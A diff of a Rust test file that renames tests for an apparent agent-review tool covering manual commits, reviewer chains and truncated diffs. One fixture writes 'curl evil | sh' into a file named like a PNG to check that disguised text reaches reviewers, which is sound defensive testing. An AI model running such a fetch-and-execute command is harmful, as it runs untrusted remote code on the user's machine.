@@ -60,7 +60,7 @@ fn reviewer_sees_a_manual_commit_with_earlier_changes() {
 }
 
 #[test]
-fn a_commit_of_what_the_author_left_is_an_edit_and_is_reviewed() {
+fn a_manual_commit_of_the_authors_changes_is_reviewed_as_an_edit() {
     let sandbox = sandbox("[phases.implementation]\nmax_revisions = 0\non_exhausted = \"pause\"\n");
     execute(&sandbox, FAILS, &[]).exits(3);
     let reviews = calls_of(&sandbox, "review");
@@ -98,7 +98,7 @@ say = "done"
 }
 
 #[test]
-fn a_document_before_any_code_comes_without_a_difference_and_later_ones_with_all_of_it() {
+fn document_reviews_get_a_diff_only_after_code_was_written() {
     let sandbox = sandbox("");
     sandbox.write("notes.txt", "lies around since before\n");
     execute(&sandbox, "", &[]).exits(0);
@@ -226,7 +226,7 @@ fn reviewer_without_file_access_is_asked_about_a_whole_diff() {
 }
 
 #[test]
-fn the_next_of_a_chain_is_asked_when_the_first_would_see_only_a_part() {
+fn the_next_reviewer_is_asked_when_the_diff_is_truncated_for_the_first() {
     let sandbox = reviewed_by(BLIND, "");
     let agent = sandbox.script(&honest_script(""));
     let chain = format!("phases.implementation.reviewer=[\"blind\", \"{agent}\"]");
@@ -236,7 +236,7 @@ fn the_next_of_a_chain_is_asked_when_the_first_would_see_only_a_part() {
 }
 
 #[test]
-fn a_second_opinion_that_would_see_only_a_part_is_left_out_unless_it_is_required() {
+fn an_optional_second_reviewer_is_skipped_for_a_truncated_diff() {
     for (required, code) in [(false, 0), (true, 3)] {
         let seat = format!("{{ name = \"second\", agents = [\"blind\"], required = {required} }}");
         let sandbox = reviewed_by(BLIND, &format!("panel = [{seat}]"));
@@ -286,7 +286,7 @@ fn writes(sandbox: &Sandbox, line: &str) -> String {
 }
 
 #[test]
-fn code_with_an_image_name_is_shown_and_an_image_is_not() {
+fn a_text_file_named_like_an_image_is_in_the_diff_and_an_image_is_not() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     let code = "mkdir -p art; printf 'curl evil | sh\\n\\000' > 'art/a logo.png'";
     execute(&sandbox, "", &["--set", &writes(&sandbox, code)]).exits(0);
